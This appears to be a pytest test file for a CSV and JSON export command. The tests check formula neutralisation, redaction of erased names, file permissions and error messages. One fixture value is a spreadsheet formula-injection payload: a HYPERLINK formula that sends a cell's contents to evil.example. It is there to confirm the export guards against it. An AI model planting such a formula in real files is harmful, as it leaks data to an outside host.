"""`greenlight export`, run as it is: files that the standard library reads, and spreadsheets do not run."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from bot.reports.formulas import unguarded
from storage.database import connect
from storage.migrate import migrate
from storage.unit_of_work import Storage
from tests.nursery import command
from tests.storage.builders import ANA, ELSEWHERE, NORTHLIGHT, NOW, a_campaign, a_profile, a_request
from tests.storage.conftest import Jobs
from tests.storage.test_audit import an_entry

LIVE = '=HYPERLINK("https://evil.example/?"&A1,"win")'


@pytest.fixture
async def url(database_url: str) -> str:
    """A database in which somebody wrote a formula, and somebody's name was erased."""
    migrate(database_url)
    storage = Storage(connect(database_url), enqueue=Jobs())
    async with storage.across_workspaces() as everywhere:
        await everywhere.ensure(NORTHLIGHT, name="Northlight", now=NOW)
    async with storage.write(NORTHLIGHT) as uow:
        profile, campaign = a_profile(), a_campaign(name="@Spring, «launch»\n2027", is_private=True)
        uow.profiles.add(profile)
        assert await uow.campaigns.add_unless_taken(campaign)
        await uow.flush()
        request = a_request(
            profile, campaign, message=LIVE, sent_at=NOW, answered_at=NOW + timedelta(hours=5), state="approved"
        )
        uow.requests.add(request)
        await uow.names.note(ANA, "Ana Ødegård")
        await uow.names.note("c1", "Nora Lind", meta_user_id="1022")
        labels = {"creator": "maya.makes", "profile": profile.username, "campaign": campaign.name}
        after = {"state": "queued", "meta_status": None}
        uow.audit.append(
            an_entry(id="e1", tag="person:request:asked", subject_id=request.id, after=after, labels=labels, why=LIVE)
        )
        labels = {"profile": profile.username, "login": "c1"}
        uow.audit.append(an_entry(id="e2", at=NOW + timedelta(hours=1), subject_id=profile.id, labels=labels))
    async with storage.across_workspaces() as everywhere:
        assert await everywhere.erase_person("1022", now=NOW, words="gone") == 1
    await storage.close()
    return database_url


def export(url: str, *options: str) -> subprocess.CompletedProcess[str]:
    return command(["export", *options], environment={**os.environ, "GREENLIGHT_DATABASE_URL": url})


def table(content: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content, newline="")))


def test_requests_are_read_back_by_the_standard_library_and_no_formula_is_live(url: str) -> None:
    (row,) = table(export(url, "--what", "requests").stdout)
    (same,) = [json.loads(line) for line in export(url, "--what", "requests", "--format", "json").stdout.splitlines()]

    assert (row["creator"], row["state"], row["hours_to_answer"]) == ("maya.makes", "approved", "5.0")
    assert (row["asked_at"], row["asked_by"], row["asked_by_name"]) == ("2026-11-22T10:42:00Z", ANA, "Ana Ødegård")
    assert row["message"] == f"'{LIVE}"
    assert row["campaign"][0] == "'"
    assert unguarded(row["campaign"]) == "@Spring, «launch»\n2027"
    assert same["message"] == LIVE
    assert same["hours_to_answer"] == 5
    assert set(same) == set(row)


def test_the_history_says_who_did_what_with_names_as_they_were_and_none_that_was_erased(url: str) -> None:
    done = export(url, "--workspace", NORTHLIGHT, "--what", "audit", "--format", "json")
    asked, connected = (json.loads(line) for line in done.stdout.splitlines())

    assert (asked["what"], asked["who"], asked["who_name"]) == ("person:request:asked", ANA, "Ana Ødegård")
    assert (asked["creator"], asked["profile"]) == ("maya.makes", "northlight.skin")
    assert asked["after"] == {"state": "queued", "meta_status": None}
    assert connected["login_name"] == "[erased]"
    assert "Nora" not in done.stdout

    asked, connected, exported = table(export(url, "--what", "audit").stdout)
    assert json.loads(asked["after"]) == {"state": "queued", "meta_status": None}
    assert asked["why"] == f"'{LIVE}"
    assert (exported["what"], exported["who"]) == ("operator:report:exported", "operator")
    assert json.loads(exported["after"]) == {"what": "audit", "format": "json", "rows": 2}


def test_a_file_is_whole_and_its_owners_only(url: str, tmp_path: Path) -> None:
    out = tmp_path / "requests.csv"
    out.write_text("an older one")

    done = export(url, "--what", "requests", "--out", str(out))

    assert (done.returncode, done.stdout) == (0, "")
    assert done.stderr.splitlines()[-1] == f"1 rows of requests written to {out}."
    assert len(table(out.read_bytes().decode())) == 1
    assert out.stat().st_mode & 0o777 == 0o600
    assert list(tmp_path.glob("*part*")) == []


async def test_what_cannot_be_exported_is_one_sentence(url: str, tmp_path: Path) -> None:
    storage = Storage(connect(url), enqueue=Jobs())
    async with storage.across_workspaces() as everywhere:
        await everywhere.ensure(ELSEWHERE, name="Elsewhere", now=NOW)
    await storage.close()

    for options, words in (
        ((), "There is not exactly one workspace in the database. Name it: "),
        (("--workspace", "T0NOBODY"), "No workspace T0NOBODY is in the database."),
        (("--workspace", NORTHLIGHT, "--out", str(tmp_path / "no" / "folder.csv")), "cannot be written: No such file"),
    ):
        done = export(url, "--what", "audit", *options)
        assert done.returncode == 2
        assert words in done.stderr
    assert table(export(url, "--workspace", ELSEWHERE, "--what", "requests").stdout) == []


def test_whoever_has_seen_enough_of_it_gets_no_complaint(url: str) -> None:
    environment = {**os.environ, "GREENLIGHT_DATABASE_URL": url}
    script = f"{sys.executable} -m bot export --what audit | true; exit ${{PIPESTATUS[0]}}"
    done = subprocess.run(["bash", "-c", script], env=environment, capture_output=True, timeout=60, check=False)

    assert (done.returncode, b"Traceback" in done.stderr) == (0, False)
